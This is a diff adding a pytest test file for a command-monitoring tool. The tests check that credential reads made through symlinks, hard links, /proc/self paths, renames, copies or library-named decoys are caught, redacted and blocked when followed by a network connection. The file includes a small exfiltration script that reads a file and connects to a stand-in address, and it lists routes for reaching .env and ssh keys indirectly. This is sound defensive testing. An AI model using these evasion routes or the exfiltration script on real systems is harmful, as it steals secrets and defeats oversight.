@@ -1,0 +1,177 @@
+"""A credential read by any other name is a credential read (issue 13 §2).
+
+The command reads `.env` or an ssh key through a symlink, a hard link, a
+rename, /proc/self/root or /proc/self/cwd, a symlinked directory, a renamed
+directory, or a copy it made, then connects out. The report must say which credential
+was read (matched by what was opened, not by the name the command passed),
+count it as read before the connection, and keep its value, which has no
+recognisable shape, out of everything it shows.
+"""
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from test_report import SECRET, go, home, repo  # noqa: F401  (fixtures)
+
+SSH_SECRET = "plainSshKeyMaterial-7c1d2e"
+PY = "/usr/bin/python3"
+
+# Reads NAME, tries to send it out, prints it.
+EXFIL = ("import socket, sys\n"
+         "data = open(sys.argv[1]).read()\n"
+         "s = socket.socket(); s.connect_ex(('203.0.113.7', 443))\n"
+         "print(data)\n")
+
+ROUTES = {
+    # id: (shell set-up, the name read, the credential as the report names it)
+    "symlink": ('ln -s "$PWD/.env" /tmp/e', "/tmp/e", ".env"),
+    "hard-link": ("ln .env h", "h", ".env"),
+    "rename": ("mv .env x", "x", ".env"),
+    "proc-self-root": ("true", "/proc/self/root{repo}/.env", ".env"),
+    "proc-self-cwd": ("true", "/proc/self/cwd/.env", ".env"),
+    "symlinked-dir": ("ln -s . d", "d/.env", ".env"),
+    "hard-link-through-symlinked-dir": ("ln -s . d && ln d/.env /tmp/h2", "/tmp/h2", ".env"),
+    "ssh-key-through-proc-self-root": ("true", "/proc/self/root{home}/.ssh/id_ed25519",
+                                       "~/.ssh/id_ed25519"),
+    # a directory holding a link to it, renamed
+    "renamed-directory": ("mkdir t && ln .env t/e && mv t t2", "t2/e", ".env"),
+    # a directory of the host's cannot be renamed in the overlay, so mv
+    # copies it: the copy holds the secret, and reading it back reads it
+    "copied-ssh-directory": ("mv ~/.ssh ~/s", "{home}/s/id_ed25519", "~/s/id_ed25519"),
+    "copied-ssh-directory-elsewhere": ("mv ~/.ssh /tmp/s", "/tmp/s/id_ed25519",
+                                       "/tmp/s/id_ed25519"),
+    "copied-file": ("cp .env /tmp/c", "/tmp/c", "/tmp/c"),
+    # the tracer drops opens of the loader's libraries unstopped, as noise:
+    # a credential planted under such a name, or reached by '..' through a
+    # symlink planted there, must not pass for one
+    "planted-under-a-noise-name": ('ln -s "$PWD/.env" /lib/x86_64-linux-gnu/libcred.so',
+                                   "/lib/x86_64-linux-gnu/libcred.so", ".env"),
+    "dotdot-through-a-noise-directory": ('mkdir sub && ln -s "$PWD/sub" /lib/x86_64-linux-gnu/D',
+                                         "/lib/x86_64-linux-gnu/D/../.env", ".env"),
+}
+
+
+@pytest.fixture
+def key_home(home):
+    (home / ".ssh").mkdir()
+    (home / ".ssh" / "id_ed25519").write_text(SSH_SECRET + "\n")
+    return home
+
+
+@pytest.mark.parametrize("route", ROUTES)
+def test_a_credential_read_by_another_name_is_reported_and_redacted(repo, tmp_path, key_home,
+                                                                   route):
+    setup, name, cred = ROUTES[route]
+    name = name.format(repo=repo, home=key_home)
+    (repo / "exfil.py").write_text(EXFIL)
+    r = go(f"{setup} && {PY} exfil.py '{name}'", repo, tmp_path, home=key_home).report
+    kind = "dotenv" if ".env" in setup + name else "ssh-private-key"
+    assert (cred, kind) in [(p.path, p.kind.removeprefix("copied:"))
+                            for p in r.protected_reads], r.card()
+    [net] = [n for n in r.network if n.port == 443]
+    assert cred in (net.read_before or []), r.card()
+    secret = SECRET if kind == "dotenv" else SSH_SECRET
+    assert secret not in r.to_json() and secret not in r.card()
+    assert f"<redacted:{kind}>" in r.output.stdout.head
+
+
+def test_the_report_says_which_name_led_to_the_credential(repo, tmp_path, key_home):
+    r = go('ln -s "$PWD/.env" /tmp/e && cat /tmp/e && ln .env h', repo, tmp_path,
+           home=key_home).report
+    reads = {(p.path, p.op, p.via) for p in r.protected_reads}
+    assert (".env", "open", "/tmp/e") in reads and (".env", "link", "h") in reads, reads
+    assert 'credential read: ".env" (dotenv) as "/tmp/e"' in r.card() or \
+        "credential read: .env (dotenv) as /tmp/e" in r.card(), r.card()
+
+
+# ---- held output is released only with the run -----------------------------------------
+
+ROOT = Path(__file__).resolve().parent.parent
+
+
+def test_a_blocked_runs_outcome_carries_only_the_redacted_output(repo, tmp_path):
+    """caper.run and the API: stdout/stderr of a run that is not committed
+    are the report's redacted text, whole, both ends of a long one too."""
+    out = go("cat .env; cat .env >&2; head -c 300000 /dev/zero | tr '\\0' a; cat .env",
+             repo, tmp_path)
+    assert not out.committed
+    for stream in (out.stdout, out.stderr):
+        text = stream.text().decode()
+        assert SECRET not in text and "<redacted:dotenv>" in text
+    assert out.stdout.text().decode().endswith("API_TOKEN=<redacted:dotenv>\nDEBUG=1\n")
+    assert "bytes omitted" in out.stdout.text().decode()
+    assert SECRET not in out.output and SECRET not in json.dumps(out.to_json())
+
+
+def test_an_allowed_run_releases_its_output_as_it_was(repo, tmp_path):
+    out = go("cat .env", repo, tmp_path, approver="allow")
+    assert out.committed and SECRET in out.stdout.text().decode()
+
+
+@pytest.mark.parametrize("door", ["cli", "gate"])
+def test_caper_run_json_of_a_blocked_run_prints_no_raw_output(repo, tmp_path, monkeypatch, door):
+    env = {**os.environ, "PYTHONPATH": str(ROOT), "HOME": str(tmp_path / "nohome"),
+           "CAPER_STATE_DIR": str(tmp_path / "state"), "CAPER_GATE_IDLE": "5"}
+    if door == "gate":
+        env.pop("CAPER_NO_GATE", None)
+    p = subprocess.run([sys.executable, "-m", "caper", "run", "--json", "--approver", "block",
+                        "-c", "cat .env; cat .env >&2"], cwd=repo, env=env, capture_output=True,
+                       timeout=120)
+    try:
+        doc = json.loads(p.stdout)
+        assert ("gate" in doc) == (door == "gate")
+        assert not doc["committed"]
+        assert SECRET not in p.stdout.decode() and SECRET not in p.stderr.decode()
+        assert "<redacted:dotenv>" in doc["stdout"] and "<redacted:dotenv>" in doc["stderr"]
+    finally:
+        if door == "gate":
+            from test_gate import _stop
+            _stop(tmp_path / "state")
+
+
+@pytest.mark.parametrize("route", ["symlink", "hard-link", "proc-self-root", "copied-file",
+                                   "planted-under-a-noise-name", "named-in-argv"])
+def test_the_policy_blocks_a_credential_read_by_another_name_then_sent(repo, tmp_path, key_home,
+                                                                      route):
+    """The policy's 'network after a credential read' fires whatever the
+    name, even when the name is also the script's argument (a script named
+    in argv is code; a credential never is)."""
+    setup, name, _ = ROUTES.get(route, ("true", ".env", ".env"))
+    (repo / "exfil.py").write_text(EXFIL)
+    out = go(f"{setup} && {PY} exfil.py '{name.format(repo=repo, home=key_home)}'", repo, tmp_path,
+             home=key_home, approver="policy")
+    assert out.decision == "block" and "credentials leaving" in out.reason, out.reason
+    assert SECRET not in out.reason and SECRET not in out.stdout.text().decode()
+
+
+ROOTLESS_ROUTES = {
+    "symlink": ('ln -s "$PWD/.env" e', "e"),
+    "hard-link": ("ln .env h", "h"),
+    "proc-self-root": ("true", "/proc/self/root{repo}/.env"),
+    "symlinked-dir": ("ln -s . d", "d/.env"),
+}
+
+
+@pytest.mark.parametrize("route", ROOTLESS_ROUTES)
+def test_rootless_a_credential_by_another_name_is_redacted_from_a_blocked_runs_output(route):
+    from test_rootless import NOBODY, need_rootless_venv, run_as_nobody
+    need_rootless_venv()
+    import shutil
+    import tempfile
+    ws, state = tempfile.mkdtemp(prefix="sec-tracer-ws-"), tempfile.mkdtemp(prefix="sec-tracer-st-")
+    try:
+        Path(ws, ".env").write_text(f"API_TOKEN={SECRET}\n")
+        for p in (ws, state, os.path.join(ws, ".env")):
+            os.chown(p, NOBODY, NOBODY)
+        setup, name = ROOTLESS_ROUTES[route]
+        out = run_as_nobody(ws, f"{setup} && cat '{name.format(repo=ws)}'", "block", state)
+        assert SECRET not in out["stdout"] and "<redacted:dotenv>" in out["stdout"], out
+    finally:
+        shutil.rmtree(ws, ignore_errors=True)
+        shutil.rmtree(state, ignore_errors=True)
